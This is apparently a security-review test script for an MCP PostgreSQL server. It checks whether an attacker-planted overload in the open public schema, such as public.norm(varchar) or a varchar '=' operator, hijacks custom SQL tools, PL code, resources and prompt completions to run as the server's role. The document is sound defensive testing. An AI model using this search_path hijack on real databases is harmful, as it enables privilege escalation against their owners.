"""attack5 F1/F2: custom definitions reach a function NAME in the open schema `public`, with
default settings (MCP_ALLOW_OPEN_SCHEMA_CODE=false), so an overload the attacker plants there
(`public.norm(varchar)`, an exact match beating the DBA's `public.norm(text)`) runs as the
server's role on every call: no race.

- F1 (sql tool, resource, prompt argument completion): custom SQL calling a trusted function (`app.people_norm()`, SQL
  body; `app.people_norm_pl()`, PL/pgSQL; `public.people_report()`, no arguments) whose body
  names `public.norm(...)` qualified, as docs/custom-definitions.md advises. F1b: custom SQL
  calling `app.outer_count()`, whose body calls `app.inner_count()` with its own
  `SET search_path = public` (attack2 F13 one call deeper): the planted
  `public.=(varchar, varchar)` runs. resolve.py
  checks only the called function itself (its schema, its own search_path), never the
  names in its body. Control: the BEGIN ATOMIC body (`app.people_norm_atomic()`) resolved at
  creation: held. execute_query of the same SQL is refused (`open_schema_code`): held.
- F2 (pl-func / pl-do): PL code naming `public.norm(name)` qualified: not checked at all.

Usage (bed.py and setup.py first, see ../README.md):
  PYTHONPATH=tests:security-review:security-review/attack5 uv run python \
      security-review/attack5/custom_qualified.py [before|after]
`before`: planted before the server starts (the start's check sees it); `after`: planted
after the first, clean call. Prints FINDING lines; exits 1 if any."""
from __future__ import annotations

import asyncio
import sys
import tempfile
import textwrap
from pathlib import Path

from common5 import (
    ATTACKER, DROP_EQ, DROP_NORM, DSN, PLANT_EQ, PLANT_NORM, READER, Notices, execute, pwned,
    reset_db, tool,
)
from mcp_types import PromptReference
from mcpclient import connect

# F1b: F13 one call deeper: custom SQL calls app.outer() (no search_path of its own, body
# qualified), which calls app.inner(), whose own `SET search_path = public` makes its
# unqualified `=` on varchar resolve in public. resolve.py checks the open_path of the
# functions the statement itself depends on, not of those their bodies call.
NESTED = """
CREATE FUNCTION app.inner_count() RETURNS bigint STABLE LANGUAGE sql SET search_path = public
    AS $$SELECT count(*) FROM app.people p WHERE p.name = 'Alice'::varchar$$;
CREATE FUNCTION app.outer_count() RETURNS bigint STABLE LANGUAGE sql
    AS 'SELECT app.inner_count()';
"""
DEFS = """
tools:
  - name: nested_own_path
    type: sql
    sql: SELECT app.outer_count() AS n
  - name: sql_body
    type: sql
    sql: SELECT n FROM app.people_norm() AS n
  - name: pl_body
    type: sql
    sql: SELECT app.people_norm_pl() AS n
  - name: no_args_public
    type: sql
    sql: SELECT public.people_report() AS n
  - name: atomic_body
    type: sql
    sql: SELECT n FROM app.people_norm_atomic() AS n
  - name: pl_func
    type: pl-func
    language: plpgsql
    returns: text
    code: |
      BEGIN
        RETURN (SELECT string_agg(public.norm(p.name), ',' ORDER BY p.id) FROM app.people p);
      END;
  - name: pl_do
    type: pl-do
    language: plpgsql
    code: |
      BEGIN
        result := to_jsonb((SELECT string_agg(public.norm(p.name), ',' ORDER BY p.id)
                            FROM app.people p));
      END;
prompts:
  - name: about
    arguments:
      - name: who
        required: true
        completion: SELECT n FROM app.people_norm() AS n WHERE n LIKE $1 || '%'
    messages:
      - role: user
        content:
          type: text
          text: Tell me about {{who}}.
resources:
  - uri: custom://norm
    name: Norm
    type: sql
    mimeType: application/json
    sql: SELECT n FROM app.people_norm() AS n
"""
TOOLS = ["nested_own_path", "sql_body", "pl_body", "no_args_public", "atomic_body", "pl_func", "pl_do"]
CONTROLS = {  # execute_query of the same reads: the guard refuses them
    "execute_query sql body": "SELECT n FROM app.people_norm() AS n",
    "execute_query pl body": "SELECT app.people_norm_pl() AS n",
    "execute_query no-args public": "SELECT public.people_report() AS n",
    "execute_query qualified": "SELECT public.norm(name) FROM app.people",
    "execute_query nested own path": "SELECT app.outer_count() AS n",
}


async def main(when: str) -> int:
    await reset_db()
    await execute(DSN, NESTED)
    if when == "before":
        await execute(ATTACKER, PLANT_NORM + ";" + PLANT_EQ)
    d = Path(tempfile.mkdtemp())
    (d / "defs.yaml").write_text(textwrap.dedent(DEFS))
    found = 0
    try:
        async with connect(READER, custom_definitions=str(d / "defs.yaml")) as c:
            if when == "after":
                for name in TOOLS:
                    ok, body = await tool(c, name)
                    print(f"clean call {name}: ok={ok} {str(body)[:120]}")
                await execute(ATTACKER, PLANT_NORM + ";" + PLANT_EQ)
            xid0 = await Notices().next_xid()
            for name in TOOLS:
                ok, body = await tool(c, name)
                tag = "FINDING" if pwned(body) else "held"
                found += tag == "FINDING"
                print(f"{tag}: tool {name}: ok={ok} {str(body)[:220]}")
            try:
                r = await c.read_resource("custom://norm")
                text = r.contents[0].text
            except Exception as e:  # noqa: BLE001
                text = f"error {e}"
            tag = "FINDING" if "PWNED" in text else "held"
            found += tag == "FINDING"
            print(f"{tag}: resource custom://norm: {text[:220]}")
            try:
                done = await c.complete(
                    PromptReference(type="ref/prompt", name="about"), {"name": "who", "value": ""}
                )
                text = str(done.completion.values)
            except Exception as e:  # noqa: BLE001
                text = f"error {e}"
            tag = "FINDING" if "PWNED" in text else "held"
            found += tag == "FINDING"
            print(f"{tag}: prompt argument completion: {text[:220]}")
            for label, sql in CONTROLS.items():
                ok, body = await tool(c, "execute_query", sql=sql)
                tag = "FINDING" if pwned(body) else "held"
                found += tag == "FINDING"
                print(f"{tag}: {label}: ok={ok} {str(body)[:160]}")
            print(f"transaction IDs consumed meanwhile: {await Notices().next_xid() - xid0}")
    except Exception as e:  # noqa: BLE001 - a refused start is a result here
        print("start refused:", str(e)[:600])
    finally:
        await execute(ATTACKER, DROP_NORM + ";" + DROP_EQ)
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "before")))
